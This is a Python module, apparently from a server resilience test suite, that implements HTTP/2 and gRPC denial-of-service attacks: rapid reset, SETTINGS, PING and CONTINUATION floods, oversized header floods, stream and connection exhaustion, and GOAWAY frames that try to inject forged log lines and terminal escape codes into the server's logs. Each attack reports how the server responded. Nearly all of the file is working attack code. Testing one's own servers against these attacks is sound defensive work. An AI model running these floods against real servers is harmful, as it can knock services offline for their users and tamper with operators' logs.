"""Too much of what is allowed: connections, streams, headers, and frames that cost the sender nothing."""

import contextlib
import time
from collections.abc import Callable, Iterator
from typing import Any

from hpack.hpack import encode_integer
from hyperframe.frame import ContinuationFrame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from attacks.peer import CHECK, SCORE, Peer, connected, grpc_message

FORGED = b'{"event": "forged", "level": "info"}'
"""The line that `goaway_text` tries to bring into the server's log."""


def goaway_text(address: str) -> dict[str, Any]:
    """GOAWAY frames whose debug text has line breaks and a line of log in it, one connection for each error code."""
    text = b"x\n" + FORGED + b"\n\r\n" + FORGED + b"\r\n\x1b[2J"
    answered = []
    for code in range(14):
        with Peer(address) as peer:
            peer.read_answers(0.1)
            peer.send(GoAwayFrame(0, last_stream_id=0, error_code=code, additional_data=text))
            peer.read_until(lambda: False, 0.1)
            answered.append("closed" if peer.closed else "open")
    return {"goaways": len(answered), "connections_after": {state: answered.count(state) for state in set(answered)}}


def many_connections(address: str, connections: int = 1000, hold_s: float = 5.0) -> dict[str, Any]:
    """Connections that say nothing but HTTP/2's preface; meanwhile one whole call."""
    peers, refused = [], 0
    try:
        for _ in range(connections):
            try:
                peers.append(Peer(address))
            except OSError:
                refused += 1
        time.sleep(hold_s)
        with Peer(address) as caller:
            _check(caller)
            outcomes = caller.outcomes()
        for peer in peers:
            peer.read_until(lambda: False, 0.001)
        return {"connections": len(peers), "refused": refused, "closed": sum(p.closed for p in peers), "call": outcomes}
    finally:
        for peer in peers:
            peer.__exit__()


def silent_connections(address: str, connections: int = 1000, hold_s: float = 5.0) -> dict[str, Any]:
    """TCP connections on which not one byte is sent."""
    with contextlib.ExitStack() as stack:
        held, refused = [], 0
        for _ in range(connections):
            try:
                held.append(stack.enter_context(connected(address)))
            except OSError:
                refused += 1
        time.sleep(hold_s)
        with Peer(address) as caller:
            _check(caller)
            return {"connections": len(held), "refused": refused, "call": caller.outcomes()}


def many_streams(address: str, streams: int = 10_000, hold_s: float = 5.0) -> dict[str, Any]:
    """Calls of one connection that are begun and not ended, whatever limit the server's settings name."""
    with Peer(address) as peer:
        for _ in range(streams):
            if not peer.closed:
                peer.open_call(SCORE)
        peer.read_until(lambda: False, hold_s)
        return {"streams": len(peer.calls), "outcomes": peer.outcomes(), **_ending(peer)}


def header_flood(address: str, calls: int = 200, entries: int = 400) -> dict[str, Any]:
    """Calls with hundreds of headers of 1 KiB, several times the size that gRPC allows."""
    with Peer(address) as peer:
        large = b"".join(literal(b"x-%d" % number, b"v" * 1024) for number in range(entries))
        for _ in range(calls):
            if not peer.closed:
                _in_pieces(peer, peer.headers(SCORE) + large)
        peer.read_answers(5)
        return {"header_bytes": calls * len(large), "outcomes": peer.outcomes(), **_ending(peer)}


def literal(name: bytes, value: bytes) -> bytes:
    """A header as HPACK writes one that no table is to remember (RFC 7541, 6.2.2)."""
    return b"\x00" + encode_integer(len(name), 7) + name + encode_integer(len(value), 7) + value


def _in_pieces(peer: Peer, block: bytes) -> None:
    """Sends a header block that is longer than a frame."""
    stream, size = peer.new_stream(), peer.max_frame
    pieces = [block[at : at + size] for at in range(0, len(block), size)]
    frames = [HeadersFrame(stream, pieces[0], flags=["END_STREAM"])]
    frames += [ContinuationFrame(stream, piece) for piece in pieces[1:]]
    frames[-1].flags.add("END_HEADERS")
    peer.send(*frames)


def rapid_reset(address: str, seconds: float = 5.0) -> dict[str, Any]:
    """Whole calls that are reset in the same breath ("rapid reset")."""

    def burst(peer: Peer) -> bytes:
        wire = b""
        for _ in range(100):
            stream = peer.new_stream()
            del peer.calls[stream]
            wire += HeadersFrame(stream, peer.headers(SCORE), flags=["END_HEADERS"]).serialize()
            wire += RstStreamFrame(stream, 8).serialize()
        return wire

    return _flood(address, seconds, burst, 100)


def settings_flood(address: str, seconds: float = 5.0) -> dict[str, Any]:
    """SETTINGS frames, each of which has to be acknowledged."""
    wire = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * 500
    return _flood(address, seconds, lambda _: wire, 500)


def ping_flood(address: str, seconds: float = 5.0) -> dict[str, Any]:
    """PING frames, each of which has to be answered."""
    wire = PingFrame(0, b"12345678").serialize() * 500
    return _flood(address, seconds, lambda _: wire, 500)


def continuation_flood(address: str, seconds: float = 5.0) -> dict[str, Any]:
    """Headers that never end: one HEADERS frame, then CONTINUATION frames."""
    started = False

    def burst(peer: Peer) -> bytes:
        nonlocal started
        first = b"" if started else HeadersFrame(1, peer.headers(SCORE)).serialize()
        started = True
        return first + ContinuationFrame(1, literal(b"x-a", b"v" * 100) * 150).serialize() * 10

    return _flood(address, seconds, burst, 10)


def _flood(address: str, seconds: float, burst: Callable[[Peer], bytes], frames: int) -> dict[str, Any]:
    """Sends bursts for a time, reading what comes, on new connections where the server hangs up; at most 100."""
    sent, ends, connections = 0, dict[str, int](), 0
    deadline_s = time.monotonic() + seconds
    while time.monotonic() < deadline_s and connections < 100:
        connections += 1
        with Peer(address) as peer:
            for wire in _bursts(peer, burst, deadline_s):
                peer.write(wire)
                sent += frames
                peer.read_until(lambda: False, 0.001)
            end = str(_ending(peer)["goaway"] or ("closed" if peer.closed else "open"))
            ends[end] = ends.get(end, 0) + 1
    return {"frames": sent, "connections": connections, "connections_after": ends}


def _bursts(peer: Peer, burst: Callable[[Peer], bytes], deadline_s: float) -> Iterator[bytes]:
    while not peer.closed and peer.goaway is None and time.monotonic() < deadline_s:
        yield burst(peer)


def _check(caller: Peer) -> None:
    caller.send_data(caller.open_call(CHECK), grpc_message(b""))
    caller.read_answers(5)


def _ending(peer: Peer) -> dict[str, Any]:
    code, text = peer.goaway or (None, b"")
    return {"closed": peer.closed, "goaway": f"goaway {code} {text[:60].decode('latin-1')}" if peer.goaway else ""}
